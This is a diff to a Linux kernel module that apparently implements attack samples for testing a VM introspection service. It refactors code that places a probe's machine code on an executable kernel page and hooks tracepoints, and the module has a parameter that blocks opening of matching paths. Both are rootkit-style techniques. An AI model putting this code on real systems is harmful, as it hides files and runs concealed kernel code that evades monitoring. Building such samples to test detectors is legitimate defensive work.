@@ -47,6 +47,8 @@
 #include <linux/uaccess.h>
 #include <asm/unistd.h>
 
+#include "vmiaas_attack_execpage.h"
+
 static char *hide = "vmiaas_tp_hidden";
 module_param(hide, charp, 0444);
 MODULE_PARM_DESC(hide, "paths containing this cannot be opened");
@@ -116,28 +118,15 @@ static const u8 heap_code[] = {
 
 #define HEAP_HITS	6
 
-typedef int (*set_memory_fn)(unsigned long addr, int numpages);
-
 /* The counting probe copied to an executable page of its own. */
 static void *vmiaas_attack_tracepoint_heap(void)
 {
-	set_memory_fn ro = (set_memory_fn)setro, x = (set_memory_fn)setx;
-	unsigned long page, hits_at = (unsigned long)&hits;
-	int err;
+	unsigned long hits_at = (unsigned long)&hits;
+	u8 code[sizeof(heap_code)];
 
-	if (!ro || !x)
-		return ERR_PTR(-EINVAL);
-	page = __get_free_page(GFP_KERNEL);
-	if (!page)
-		return ERR_PTR(-ENOMEM);
-	memset((void *)page, 0xcc, PAGE_SIZE);
-	memcpy((void *)page, heap_code, sizeof(heap_code));
-	memcpy((void *)page + HEAP_HITS, &hits_at, 8);
-	err = ro(page, 1);
-	err = err ?: x(page, 1);
-	if (err)
-		return ERR_PTR(err);	/* the page leaks: it may be executable */
-	return (void *)page;
+	memcpy(code, heap_code, sizeof(code));
+	memcpy(code + HEAP_HITS, &hits_at, 8);
+	return vmiaas_attack_execpage(code, sizeof(code), setro, setx);
 }
 
 static void vmiaas_attack_tracepoint_find(struct tracepoint *tp, void *priv)
